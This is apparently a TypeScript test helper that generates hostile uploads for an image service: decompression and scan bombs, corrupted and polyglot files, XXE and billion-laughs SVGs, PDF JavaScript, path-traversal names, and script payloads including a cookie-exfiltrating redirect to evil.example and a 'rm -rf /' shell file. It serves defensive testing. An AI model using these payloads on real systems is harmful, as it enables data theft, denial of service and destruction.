import fs from 'node:fs';
import path from 'node:path';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { progressiveScanBomb } from '../support/jpeg-scan-bomb.mjs';
import { kaggleFiles, kaggleFullRes } from '../support/shared.js';

/**
 * Files an attacker (or a confused user) might upload, generated at test time from a few real photos and by
 * hand-made headers; nothing is stored in the repository.
 *
 * `expect`: `reject` = must be refused with a 4xx; `either` = may be a valid picture after all (a byte flip in
 * entropy-coded JPEG data often still decodes, a polyglot is a real JPEG) but must never be a 5xx.
 */
export interface HostileFile {
  kind: string;
  name: string;
  bytes: Uint8Array;
  expect: 'reject' | 'either';
}

/** Deterministic, so a failure names a file that the next run produces again. */
function rng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const randomBytes = (length: number, random: () => number): Uint8Array => Uint8Array.from({ length }, () => Math.floor(random() * 256));

function flipBytes(source: Uint8Array, count: number, random: () => number): Uint8Array {
  const bytes = Uint8Array.from(source);
  for (let i = 0; i < count; i++) {
    const at = Math.floor(random() * bytes.length);
    bytes[at] = bytes[at]! ^ (1 + Math.floor(random() * 255));
  }
  return bytes;
}

const CRC_TABLE = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A well-formed PNG claiming `width × height` grayscale pixels whose data is `idat` (valid CRCs throughout). */
function pngWithHeader(width: number, height: number, idat: Uint8Array): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // grayscale
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', new Uint8Array())]);
}

/** A baseline JPEG header (SOI, DQT, SOF0, DHT-less SOS) declaring `width × height`: decoders must stop at the header. */
function jpegWithHeader(width: number, height: number): Buffer {
  const dqt = Buffer.concat([Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00]), Buffer.alloc(64, 1)]);
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x01, 0x01, 0x11, 0x00]);
  const sos = Buffer.from([0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), dqt, sof, sos, Buffer.alloc(64, 0), Buffer.from([0xff, 0xd9])]);
}

/** A WebP extended-format (VP8X) header announcing a canvas of `width × height`, with no image data. */
function webpWithCanvas(width: number, height: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const chunk = Buffer.concat([Buffer.from('VP8X', 'latin1'), Buffer.from([10, 0, 0, 0]), vp8x]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length, 0);
  return Buffer.concat([Buffer.from('RIFF', 'latin1'), size, Buffer.from('WEBP', 'latin1'), chunk]);
}

function gifWithScreen(width: number, height: number): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  // One image descriptor of the same size, LZW min code size 2, an empty data block, trailer.
  const descriptor = Buffer.alloc(10);
  descriptor[0] = 0x2c;
  descriptor.writeUInt16LE(width, 5);
  descriptor.writeUInt16LE(height, 7);
  return Buffer.concat([Buffer.from('GIF89a', 'latin1'), screen, descriptor, Buffer.from([0x02, 0x00, 0x3b])]);
}

/** One stored-or-deflated entry in a minimal zip (local header, central directory, end record). */
function zipWith(name: string, content: Uint8Array): Buffer {
  const data = deflateRawSync(content, { level: 9 });
  const fileName = Buffer.from(name, 'utf8');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/**
 * `gif` (one frame, as sharp writes it: header, colour table, frame, trailer) with its frame repeated `frames`
 * times: a decoder that went through the frames one by one would do `frames` times the work of the first.
 */
function manyFrameGif(gif: Uint8Array, frames: number): Buffer {
  const bytes = Buffer.from(gif);
  const packed = bytes[10]!;
  const headerEnd = 13 + (packed & 0x80 ? 3 * 2 ** ((packed & 0x07) + 1) : 0);
  // Extensions before the frame (sharp's NETSCAPE loop block, graphic control) stay in the header.
  let frameStart = headerEnd;
  while (bytes[frameStart] === 0x21) {
    let at = frameStart + 2;
    while (bytes[at] !== 0) at += bytes[at]! + 1;
    frameStart = at + 1;
  }
  const frame = bytes.subarray(frameStart, bytes.length - 1);
  return Buffer.concat([bytes.subarray(0, frameStart), ...new Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])]);
}

const MINIMAL_PDF = `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj
2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
3 0 obj << /S /JavaScript /JS (app.alert('pwned')) >> endobj
trailer << /Root 1 0 R >>
%%EOF
`;

const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');

export async function generateHostileCorpus(): Promise<HostileFile[]> {
  const random = rng(20261127);
  const photos = [...kaggleFiles('cat', 2, 400), ...kaggleFiles('dog', 1, 400), path.join(kaggleFullRes, 'cat', 'cat.3.jpg')].map(
    (file) => new Uint8Array(fs.readFileSync(file)),
  );
  const jpeg = photos[0]!;
  const png = new Uint8Array(await sharp(jpeg).png().toBuffer());
  const webp = new Uint8Array(await sharp(jpeg).webp().toBuffer());
  const gif = new Uint8Array(await sharp(jpeg).resize(64, 64).gif().toBuffer());
  const files: HostileFile[] = [];
  const add = (kind: string, name: string, bytes: Uint8Array, expect: HostileFile['expect'] = 'reject') => files.push({ kind, name, bytes, expect });

  add('empty', 'empty.jpg', new Uint8Array());
  add('empty', 'empty.png', new Uint8Array());

  for (const [format, source] of [['jpg', photos[1]!], ['jpg', photos[3]!], ['png', png], ['webp', webp], ['gif', gif]] as const) {
    for (const length of [1, 3, 8, 16, 40, 100, 600]) add('truncated', `truncated-${length}.${format}`, source.subarray(0, length));
    for (const fraction of [0.25, 0.5, 0.9]) add('truncated', `truncated-${fraction}.${format}`, source.subarray(0, Math.floor(source.length * fraction)), 'either');
  }

  for (const [format, source, seeds] of [['jpg', jpeg, 14], ['jpg', photos[2]!, 6], ['png', png, 10], ['webp', webp, 10], ['gif', gif, 4]] as const) {
    for (let seed = 0; seed < seeds; seed++) {
      const flips = [1, 10, 200][seed % 3]!;
      add('corrupt', `flipped-${flips}-${seed}.${format}`, flipBytes(source, flips, random), 'either');
    }
    // Header bytes flipped: the signature or the first chunk is wrong.
    add('corrupt', `bad-header.${format}`, flipBytes(source.subarray(0, 64), 8, random));
  }

  for (let i = 0; i < 20; i++) add('random', `random-${i}.jpg`, randomBytes(1 + Math.floor(random() * 50_000), random));
  for (const [name, magic] of [
    ['jpeg', [0xff, 0xd8, 0xff]],
    ['png', [...PNG_SIGNATURE]],
    ['gif', [...Buffer.from('GIF89a', 'latin1')]],
    ['webp', [...Buffer.from('RIFF\u0000\u0000\u0000\u0000WEBPVP8 ', 'latin1')]],
    ['avif', [0, 0, 0, 0x1c, ...Buffer.from('ftypavif', 'latin1')]],
  ] as const) {
    for (let i = 0; i < 5; i++) add('random-with-magic', `magic-${name}-${i}.${name}`, Buffer.concat([Buffer.from(magic), randomBytes(50 + Math.floor(random() * 5_000), random)]));
  }

  for (const [width, height] of [[100_000, 100_000], [65_535, 65_535], [2_000_000_000, 2], [1, 2_000_000_000], [40_000, 1_001], [0, 0]] as const) {
    add('huge-dimensions', `huge-${width}x${height}.png`, pngWithHeader(width, height, deflateSync(Buffer.alloc(1024))));
  }
  for (const [width, height] of [[65_535, 65_535], [10_000, 10_000], [65_535, 1], [0, 0]] as const) add('huge-dimensions', `huge-${width}x${height}.jpg`, jpegWithHeader(width, height));
  add('huge-dimensions', 'huge-16384x16384.webp', webpWithCanvas(16_384, 16_384));
  add('huge-dimensions', 'huge-65535x65535.gif', gifWithScreen(65_535, 65_535));
  // A real decompression bomb: 64 MB of grayscale pixels deflated to ~64 KB, refused from its header.
  add('bomb', 'png-bomb-8000x8000.png', pngWithHeader(8_000, 8_000, deflateSync(Buffer.alloc(8_000 * 8_001), { level: 9 })));
  add('bomb', 'zip-bomb.zip', zipWith('zeros.bin', Buffer.alloc(50_000_000)));
  add('bomb', 'zip-bomb.jpg', zipWith('zeros.jpg', Buffer.alloc(50_000_000)));
  add('bomb', 'gzip-bomb.png', gzipSync(Buffer.alloc(50_000_000), { level: 9 }));
  // Progressive scan bombs: every scan is valid, and each walks the whole image again (issue 14: ~45 s of CPU for one).
  add('scan-bomb', 'scan-bomb-6304x6304.jpg', progressiveScanBomb({ width: 6_304, height: 6_304, components: 3 }));
  add('scan-bomb', 'scan-bomb-4096x4096-grey.jpg', progressiveScanBomb({ width: 4_096, height: 4_096, components: 1 }));
  add('scan-bomb', 'scan-bomb-640x480.jpg', progressiveScanBomb({ width: 640, height: 480, components: 3 }));
  // Pixel-count amplification: 40 MP in a few KB, valid to the last byte (issue 14: 50 of them cost 4 s of decode).
  add('bomb', 'png-40mp.png', pngWithHeader(8_000, 5_000, deflateSync(Buffer.alloc(5_000 * 8_001), { level: 9 })));
  // Only the first frame of an animation is decoded: 5,000 frames cost what one does.
  add('many-frames', 'frames-2000.gif', manyFrameGif(gif, 2_000), 'either');
  add('many-frames', 'frames-20000.gif', manyFrameGif(new Uint8Array(await sharp(jpeg).resize(16, 16).gif().toBuffer()), 20_000), 'either');

  const svgScript = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
  add('svg', 'script.svg', text(svgScript));
  add('svg', 'script.jpg', text(svgScript));
  add('svg', 'prolog.png', text(`<?xml version="1.0"?>\n${svgScript}`));
  add('svg', 'onload.svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/v1/tokens\')"/>'));
  add('svg', 'xxe.svg', text('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'));
  add('svg', 'billion-laughs.svg', text(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`));

  add('html', 'page.html', text('<!doctype html><html><body><script>alert(1)</script></body></html>'));
  add('html', 'page.jpg', text('<html><img src=x onerror=alert(1)></html>'));
  add('html', 'page.png', text('<script>document.location="https://evil.example/?"+document.cookie</script>'));
  add('html', 'bom.gif', text('\ufeff<!DOCTYPE html><title>x</title>'));
  add('html', 'utf16.webp', Buffer.from('<html><script>alert(1)</script></html>', 'utf16le'));

  add('polyglot', 'jpeg-zip.jpg', Buffer.concat([jpeg, zipWith('payload.js', text('alert(1)'))]), 'either');
  add('polyglot', 'zip-jpeg.jpg', Buffer.concat([zipWith('payload.js', text('alert(1)')), jpeg]));
  add('polyglot', 'jpeg-html.jpg', Buffer.concat([jpeg, text('<script>alert(1)</script>')]), 'either');
  add('polyglot', 'gif-js.gif', Buffer.concat([text('GIF89a/*'), Buffer.from(gif.subarray(10)), text('*/=1;alert(1);')]));
  add('polyglot', 'gif-js-valid.gif', Buffer.concat([gif, text('/*x*/;alert(1)')]), 'either');
  add('polyglot', 'png-phar.png', Buffer.concat([png, text('<?php __HALT_COMPILER(); ?>')]), 'either');
  add('polyglot', 'pdf-jpeg.jpg', Buffer.concat([text(MINIMAL_PDF), jpeg]));

  add('pdf', 'doc.pdf', text(MINIMAL_PDF));
  add('pdf', 'doc.jpg', text(MINIMAL_PDF));
  add('pdf', 'doc.png', text(`${MINIMAL_PDF}${'%'.repeat(10_000)}`));

  add('other-format', 'bitmap.bmp', new Uint8Array(await sharp(jpeg).resize(16, 16).raw().toBuffer()).subarray(0, 200));
  add('other-format', 'photo.tiff', new Uint8Array(await sharp(jpeg).resize(32, 32).tiff().toBuffer()));
  add('other-format', 'icon.ico', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]), randomBytes(300, random)]));
  add('other-format', 'fake.heic', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheicmif1heic', 'latin1'), randomBytes(500, random)]));
  add('other-format', 'elf.jpg', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(2_000, random)]));
  add('other-format', 'script.sh.jpg', text('#!/bin/sh\nrm -rf /\n'));

  // Valid photos under misleading names: format comes from content, names are never paths.
  add('wrong-extension', 'png-named.jpg', png, 'either');
  add('wrong-extension', 'jpeg-named.gif', photos[1]!, 'either');
  add('wrong-extension', 'webp-named.txt', webp, 'either');
  add('wrong-extension', 'no-extension', photos[2]!, 'either');
  add('wrong-extension', 'photo.exe', photos[3]!, 'either');
  for (const name of [
    '../../etc/passwd.jpg',
    '..\\..\\windows\\win.ini.jpg',
    '/etc/shadow.jpg',
    'a/../../../b.jpg',
    '%2e%2e%2f%2e%2e%2fescape.jpg',
    '....//....//escape.jpg',
    'images/ab/../../../escape.jpg',
    '<script>alert(1)</script>.jpg',
    `${'x'.repeat(3_000)}.jpg`,
    'line\nbreak\r\n.jpg',
  ]) {
    add('path-traversal', name, jpeg, 'either');
    add('path-traversal', name, flipBytes(jpeg.subarray(0, 500), 20, random));
  }
  return files;
}
